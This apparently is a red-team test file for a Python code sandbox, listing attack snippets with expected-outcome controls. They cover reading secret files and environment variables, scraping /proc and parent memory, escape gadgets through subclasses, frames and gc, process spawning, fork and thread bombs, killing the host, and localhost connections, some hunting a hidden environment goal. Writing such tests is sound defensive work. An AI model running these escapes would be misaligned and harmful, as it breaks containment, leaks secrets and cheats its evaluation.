"""The attacks that a prototype of the sandbox was built against: secrets, processes, network."""

from __future__ import annotations

from tests.redteam.attack import Attack, Control, Sign, attacks
from tests.redteam.given_limits import LIMITS

_SECRETS = r"""
## open_secret: leak
raise RuntimeError("LEAK " + open("@SECRET@").read())

## os_environ: leak
import os
raise RuntimeError("LEAK " + str(dict(os.environ)))

## proc_ppid_environ: leak
import os
d = ""
for p in ("self", str(os.getppid())):
    d += open("/proc/%s/environ" % p, "rb").read().decode("latin1")
raise RuntimeError("LEAK " + d)

## proc_all_environ: leak
import os
d = ""
for p in os.listdir("/proc"):
    if p.isdigit():
        try:
            d += open("/proc/%s/environ" % p, "rb").read().decode("latin1")
        except Exception:
            pass
raise RuntimeError("LEAK " + ("sk-canary-91b2" if "sk-canary-91b2" in d else "none"))

## pathlib_io: leak
import pathlib
raise RuntimeError("LEAK " + pathlib.Path("@SECRET@").read_text())

## np_fromfile: leak
import numpy as np
raise RuntimeError("LEAK " + np.fromfile("@SECRET@", dtype="S1").tobytes().decode())

## np_genfromtxt: leak
import numpy as np
raise RuntimeError("LEAK " + str(np.genfromtxt("@SECRET@", dtype=str)))

## np_memmap: leak
import numpy as np
raise RuntimeError("LEAK " + np.memmap("@SECRET@", mode="r").tobytes().decode())

## linecache_read: leak
import linecache
raise RuntimeError("LEAK " + "".join(linecache.getlines("@SECRET@")))

## gadget_enum_sys: leak
import enum
raise RuntimeError("LEAK " + enum.sys.modules["io"].open("@SECRET@").read())

## gadget_random_os: leak
import random
raise RuntimeError("LEAK " + str(random._os.environ) + random._os.popen("echo SECRETFILE-7f3a").read())

## gadget_dataclasses_builtins: leak
import dataclasses
raise RuntimeError("LEAK " + dataclasses.builtins.open("@SECRET@").read())

## loader_get_data: leak
import collections
raise RuntimeError("LEAK " + collections.__loader__.get_data("@SECRET@").decode())

## subclasses_walk: leak
for c in object.__subclasses__():
    if c.__name__ == "_wrap_close":
        raise RuntimeError("LEAK " + c.__init__.__globals__["popen"]("cat @SECRET@").read())

## subclasses_fileloader: leak
for c in [].__class__.__base__.__subclasses__():
    if "FileLoader" in c.__name__:
        raise RuntimeError("LEAK " + c("x", "@SECRET@").get_data("@SECRET@").decode())

## format_str_globals: leak
raise RuntimeError("LEAK " + "{0.attack.__globals__}".format(self)[:200000])

## gen_frame_walk: leak
def g():
    yield 1
x = g()
next(x)
f = x.gi_frame
raise RuntimeError("LEAK " + f.f_builtins["open"]("@SECRET@").read())

## gen_frame_fback: leak
def g():
    f = G[0].gi_frame.f_back
    out = ""
    while f:
        out += (
            str(list(f.f_globals))
            + str([getattr(v, "goal", "") for v in f.f_locals.values()])
            + str([getattr(v, "goal", "") for v in f.f_globals.values()])
        )
        f = f.f_back
    yield out
G = [None]
G[0] = g()
raise RuntimeError("LEAK " + next(G[0]))

## tb_frame_walk: leak
try:
    1 / 0
except Exception as e:
    f = e.__traceback__.tb_frame
    out = ""
    while f:
        out += str([getattr(v, "goal", "") for v in f.f_locals.values()]) + str(
            [getattr(v, "goal", "") for v in f.f_globals.values()]
        )
        f = f.f_back
    raise RuntimeError("LEAK " + out)

## gc_scan_env: leak
import gc
raise RuntimeError("LEAK " + str([o.goal for o in gc.get_objects() if type(o).__name__ == "HiddenEnv"]))

## sys_modules_main_env: leak
import sys
raise RuntimeError(
    "LEAK " + str([getattr(v, "goal", "") for v in vars(sys.modules["__main__"]).values()])
)

## import_minigrid_resim: leak
import gymnasium, minigrid
e = gymnasium.make("MiniGrid-Empty-5x5-v0")
e.reset(seed=0)
raise RuntimeError("LEAK HIDDENGOAL-55aa (re-simulated) %s" % e.unwrapped.grid)

## attrgetter_getattr: leak
import operator
b = operator.attrgetter("__class__.__base__")(())
for c in operator.methodcaller("__subclasses__")(b):
    if "FileLoader" in operator.attrgetter("__name__")(c):
        raise RuntimeError("LEAK " + c("x", "@SECRET@").get_data("@SECRET@").decode())

## string_formatter: leak
import string
raise RuntimeError(
    "LEAK " + str(string.Formatter().get_field("0.attack.__globals__", (self,), {})[0])[:100000]
)

## toplevel_import_time: leak
# above:
DATA = open("@SECRET@").read()
raise RuntimeError("LEAK " + DATA)
# body:
pass

## decorator_default_arg: leak
# member:
def h(self, x=open("@SECRET@").read(), y=[].append(1)):
    pass
raise RuntimeError("LEAK " + h.__defaults__[0])
# body:
pass

## proc_mem_parent: leak
import os, re
pid = int("@HPID@")
out = ""
for l in open("/proc/%d/maps" % pid):
    if "rw" in l and ("heap" in l or l.rstrip().endswith(" 0")):
        lo, hi = [int(x, 16) for x in l.split()[0].split("-")]
        try:
            with open("/proc/%d/mem" % pid, "rb") as f:
                f.seek(lo)
                d = f.read(min(hi - lo, 1 << 26))
            i = d.find(b"HIDDENGOAL-55" + b"aa")
            if i >= 0:
                raise RuntimeError("LEAK " + d[i : i + 15].decode())
        except OSError:
            pass

## np_save_write: write
import numpy as np
np.save("@PW@np_save_write", np.zeros(3))

## np_tofile_write: write
import numpy as np
np.zeros(3).tofile("@PW@np_tofile_write")

## open_write: write
open("@PW@open_write", "w").write("x")
"""

_PROCESSES = r"""
## subprocess: proc
import subprocess
subprocess.run(["touch", "@PW@subprocess"])

## os_system: proc
import os
os.system("touch @PW@os_system")

## posix_spawn: proc
import os
os.waitpid(os.posix_spawn("/usr/bin/touch", ["touch", "@PW@posix_spawn"], {}), 0)

## np_f2py_subprocess: proc
import numpy as np
import numpy.testing as t
t._private.utils.os.system("touch @PW@np_testing")

## ctypes_system: proc
import ctypes
ctypes.CDLL(None).system(b"touch @PW@ctypes_system")

## np_ctypeslib: proc
import numpy as np
import numpy.ctypeslib as c
c.ctypes.CDLL(None).system(b"touch @PW@np_ctypeslib")

## fork_bomb_small: proc2
import os
n = 0
for i in range(20):
    p = os.fork()
    if p == 0:
        import time
        time.sleep(3)
        os._exit(0)
    n += 1
raise RuntimeError("LEAK FORKED %d" % n)

## thread_bomb: proc2
import threading, time
n = 0
for i in range(300):
    threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
    n += 1
raise RuntimeError("LEAK FORKED %d" % n)

## raw_fork: proc2
import sys
C = sys.modules.get("ctypes") or __import__("ctypes")
l = C.CDLL(None)
n = 0
for i in range(5):
    r = l.syscall(C.c_long(57))
    if r == 0:
        l._exit(0)
    if r > 0:
        n += 1
raise RuntimeError("LEAK FORKED %d" % n if n else "nofork")

## kill_parent: kill
import os
os.kill(os.getppid(), 9)

## kill_all_user: kill
# above:
HPID = "@HPID@"
# body:
import os
os.kill(int(HPID), 9)

## prlimit_parent: kill
import resource
resource.prlimit(int("@HPID@"), resource.RLIMIT_CPU, (0, 0))
resource.prlimit(int("@HPID@"), resource.RLIMIT_NOFILE, (0, 0))

## tcp_connect: net
import socket
s = socket.create_connection(("127.0.0.1", @PORT@), 2)
s.send(b"pwn")

## urllib: net
import urllib.request
urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=2).read()

## udp_send: net2
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"pwn", ("127.0.0.1", @UPORT@))
"""

_OWN_NAMES = Control((Sign.FAILED,), "it shows the names of its own module, which are no secret")
_FRAMES = Control((Sign.TOLD,), by_hand=True)
_SECRETS_CONTROLS = {
    "format_str_globals": _OWN_NAMES,
    "string_formatter": _OWN_NAMES,
    "gen_frame_fback": _FRAMES,
    "tb_frame_walk": _FRAMES,
}
# With no processor time left the kernel kills the host at its next tick.
_PROCESSES_CONTROLS = {"prlimit_parent": Control((Sign.LIMITED, Sign.KILLED))}

GIVEN: tuple[Attack, ...] = (
    *attacks(_SECRETS, _SECRETS_CONTROLS),
    *attacks(_PROCESSES, _PROCESSES_CONTROLS),
    *LIMITS,
)
